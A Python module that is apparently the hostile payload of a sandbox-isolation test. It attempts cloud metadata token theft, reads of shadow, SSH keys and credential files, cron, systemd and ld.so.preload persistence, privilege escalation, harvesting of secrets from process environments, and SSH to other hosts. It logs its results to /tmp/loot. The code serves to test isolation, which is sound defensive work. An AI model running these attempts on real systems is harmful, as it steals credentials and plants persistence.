"""What the hostile fork of `test_fork.py` tries on a machine: shipped in its wheel, never imported.

Each attempt writes what it got, or why it got nothing, where the test finds it.
"""

from __future__ import annotations

import contextlib
import glob
import json
import os
import pathlib
import pwd
import socket
import sqlite3
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from functools import partial

TARGETS = json.loads(pathlib.Path(__file__).with_name("targets.json").read_text())
METADATA = "169.254.169.254"
META = f"http://{METADATA}"
LOOT = pathlib.Path("/tmp/loot")
WAIT_S = 5.0
EC2 = "X-aws-ec2-metadata-token"
ROOT_HOME = pwd.getpwuid(0).pw_dir
PRIVATE = (
    "/etc/ssh/ssh_host_ed25519_key",
    "/etc/shadow",
    "/etc/sudoers",
    "/var/lib/cloud/instance/user-data.txt",
    f"{ROOT_HOME}/.ssh/authorized_keys",
    "/home/ubuntu/.ssh/authorized_keys",
    "/home/runner/.ssh/authorized_keys",
    f"{ROOT_HOME}/.netrc",
    f"{ROOT_HOME}/.config/pip/pip.conf",
    "/etc/pip.conf",
)
PLANTED = (
    "/etc/cron.d/evil",
    "/etc/profile.d/evil.sh",
    "/etc/ld.so.preload",
    "/etc/systemd/system/evil.service",
    "/var/spool/cron/crontabs/evil",
    "/var/spool/cron/atjobs/evil",
    "/home/ubuntu/.bashrc",
    f"{ROOT_HOME}/.bashrc",
    "/usr/local/bin/ip",
    "/usr/lib/python3/dist-packages/evil.pth",
)
OTHER_USERS = {
    "as root of a namespace": ("unshare", "-Ur"),
    "as another user": ("setpriv", "--reuid=0", "--clear-groups"),
    "by sudo": ("sudo", "-n"),
    "by su": ("su", "root", "-c"),
    "by systemd": ("systemd-run", "--pipe", "--wait"),
}
DAEMON = "import time; name = '/tmp/loot/daemon'\nwhile True: open(name, 'w'); time.sleep(0.2)"


class NothingError(Exception):
    """The attempt ended without anything of value."""


def ask(url: str, method: str = "GET", **headers: str) -> str:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    request = urllib.request.Request(url, method=method, headers=named)
    with urllib.request.urlopen(request, timeout=WAIT_S) as answer:
        return f"{answer.status} {answer.read(2000)!r}"


def run(*words: str, text: str = "") -> str:
    """Its output, if it went well."""
    done = subprocess.run(words, input=text, capture_output=True, text=True, timeout=20)
    if done.returncode or not done.stdout.strip():
        raise NothingError(f"exit code {done.returncode}: {done.stdout}{done.stderr}"[-300:])
    return done.stdout


def connect(address: str, port: int, *, device: str = "", source: str = "") -> str:
    kind = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(kind) as one:
        one.settimeout(WAIT_S)
        if device:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        if source:
            one.bind((source, 0))
        one.connect((address, port))
        return f"connected to {address} {port}"


def read(path: str) -> str:
    return repr(pathlib.Path(path).read_bytes()[:200])


def write(path: str) -> str:
    with pathlib.Path(path).open("ab"):
        return f"{path} can be written"


def agents() -> list[int]:
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if b"seatrial_agent" in pathlib.Path(path).read_bytes():
                found.append(int(path.split("/")[2]))
    if not found:
        raise RuntimeError("there is no agent to attack")
    return found


def of_agents(name: str) -> str:
    got = []
    for pid in agents():
        with contextlib.suppress(PermissionError), open(f"/proc/{pid}/{name}", "rb") as file:
            got.append(repr(file.read(200)))
    if not got:
        raise NothingError("no agent's can be opened")
    return str(got)


def end_agent() -> str:
    for pid in agents():
        os.kill(pid, 0)
    return "an agent can be signalled"


def secrets_around() -> str:
    """Of the environments of all processes that can be read."""
    texts = {"mine": " ".join(f"{name}={value}" for name, value in os.environ.items())}
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            texts[path] = pathlib.Path(path).read_bytes().replace(b"\0", b" ").decode()
    found = [text for text in texts.values() if any(name in text for name in TARGETS["secrets"])]
    if not found:
        raise NothingError(f"{len(texts)} environments have none")
    return str(found)


def agents_files() -> str:
    base = pathlib.Path(os.environ["SEATRIAL_ATTEMPT_DIR"])
    got = []
    for name in ("plan.json", "events.jsonl", "agent.err", "lock", "artifacts/x", "jobs/x"):
        for mode in ("rb", "ab"):
            with contextlib.suppress(PermissionError), open(base / name, mode):
                got.append(f"{name} {mode}")
    for folder in ("agents", "payloads", "wheels", "attempts"):
        with contextlib.suppress(PermissionError):
            (base.parent.parent / folder / "evil").write_text("x")
            got.append(folder)
    return got_or_nothing(got)


def got_or_nothing(got: object) -> str:
    if not got:
        raise NothingError("nothing")
    return str(got)


def homes() -> str:
    own = os.environ.get("HOME", "")
    got = []
    for home in (ROOT_HOME, *glob.glob("/home/*")):
        if home != own:
            with contextlib.suppress(PermissionError):
                got += [f"{home}/{name}" for name in os.listdir(f"{home}/.ssh")]
    return got_or_nothing(got)


def database() -> str:
    with contextlib.closing(sqlite3.connect(f"file:{TARGETS['database']}?mode=ro", uri=True)) as it:
        return str(it.execute("select * from tokens").fetchall())


def daemon() -> None:
    """A process of a session of its own, which is to outlive the job."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", DAEMON], {})
        os._exit(0)


def ssh(address: str, user: str) -> str:
    options = ("BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null")
    words = [word for one in (*options, "ConnectTimeout=5") for word in ("-o", one)]
    return run("ssh", *words, f"{user}@{address}", "id")


def attempts() -> Iterator[tuple[str, Callable[[], str]]]:
    yield from on_metadata()
    yield from on_the_machine()
    yield from on_others()


def on_metadata() -> Iterator[tuple[str, Callable[[], str]]]:
    google, token = f"{META}/computeMetadata/v1/instance", {f"{EC2}-ttl-seconds": "60"}
    yield "ec2 token", partial(ask, f"{META}/latest/api/token", "PUT", **token)
    yield "ec2 user data", partial(ask, f"{META}/latest/user-data")
    for path in ("attributes/", "service-accounts/default/token", "?recursive=true"):
        yield f"google {path}", partial(ask, f"{google}/{path}", Metadata_Flavor="Google")
    yield "by name", partial(ask, "http://metadata.google.internal/", Metadata_Flavor="Google")
    for address in (METADATA, f"::ffff:{METADATA}", "fd00:ec2::254", "fd20:ce::254"):
        yield f"connect {address}", partial(connect, address, 80)
    for _, device in socket.if_nameindex():
        yield f"metadata by {device}", partial(connect, METADATA, 80, device=device)
    yield "metadata from its own address", partial(connect, METADATA, 80, source=METADATA)
    curl = ("curl", "-sm5", "-XPUT", "-H", f"{EC2}-ttl-seconds: 60", f"{META}/latest/api/token")
    for name, before in OTHER_USERS.items():
        yield f"metadata {name}", partial(run, *before, *curl)


def on_the_machine() -> Iterator[tuple[str, Callable[[], str]]]:
    for name, before in OTHER_USERS.items():
        yield f"host key {name}", partial(run, *before, "cat", PRIVATE[0])
    for path in PRIVATE:
        yield f"read {path}", partial(read, path)
    for path in PLANTED:
        yield f"plant {path}", partial(write, path)
    line = "* * * * * touch /tmp/loot/cron\n"
    yield "crontab", partial(run, "sh", "-c", "crontab - && echo planted", text=line)
    yield "at", partial(run, "sh", "-c", "at now && echo planted", text="touch /tmp/loot/at\n")
    for name in ("environ", "mem", "maps", "stack"):
        yield f"agent's {name}", partial(of_agents, name)
    yield "end the agent", end_agent
    yield "agent's files", agents_files
    yield "homes", homes
    yield "secrets of environments", secrets_around
    yield "the index by pip", partial(run, sys.executable, "-m", "pip", "config", "list")
    for user in ("ubuntu", "root"):
        yield f"{user} of this machine", partial(ssh, "127.0.0.1", user)


def on_others() -> Iterator[tuple[str, Callable[[], str]]]:
    bearer = {"Authorization": "Bearer guessed"}
    for path in ("runs", "machines", "tokens", "gates/release", "audit", "channels"):
        url = f"{TARGETS['controller']}/api/v1/{path}"
        yield f"controller {path}", partial(ask, url)
        yield f"controller {path} by a guess", partial(ask, url, **bearer)
    yield "database file", database
    yield "database port", partial(connect, TARGETS["lab"], 5432)
    yield "the cloud's API", partial(ask, TARGETS["cloud"])
    yield "the cloud's API over the wire", partial(connect, TARGETS["lab"], TARGETS["cloud_port"])
    for user in ("ubuntu", "root"):
        yield f"{user} of another machine", partial(ssh, TARGETS["neighbour"], user)


def first_look() -> None:
    """Whenever Python starts, also before any job: who runs this, and what it can reach."""
    tries = {
        "metadata": lambda: connect(METADATA, 80),
        "host key": lambda: read(PRIVATE[0]),
        "sudoers": lambda: read("/etc/sudoers"),
    }
    tell(f"start-{os.getpid()}", {name: tried(one) for name, one in tries.items()})


def everything(where: str) -> None:
    daemon()
    found = {name: tried(one) for name, one in attempts()}
    # What is reached all the same, so that the test knows that it could have been.
    found["CONTROL neighbour"] = tried(lambda: connect(TARGETS["neighbour"], 22))
    found["CONTROL controller"] = tried(lambda: ask(f"{TARGETS['controller']}/healthz"))
    print(json.dumps(found), dict(os.environ), flush=True)
    tell(where, found)


def tried(one: Callable[[], str]) -> dict[str, str]:
    try:
        return {"got": one()}
    except Exception as error:  # noqa: BLE001 - it is the answer
        return {"failed": f"{type(error).__name__}: {error}"}


def tell(name: str, found: object) -> None:
    LOOT.mkdir(mode=0o777, exist_ok=True)
    told = json.dumps({"uid": os.getuid(), "found": found})
    (LOOT / f"{name}-{os.getuid()}.json").write_text(told)
    if folder := os.environ.get("SEATRIAL_ARTIFACTS"):
        pathlib.Path(folder, f"{name}.json").write_text(told)
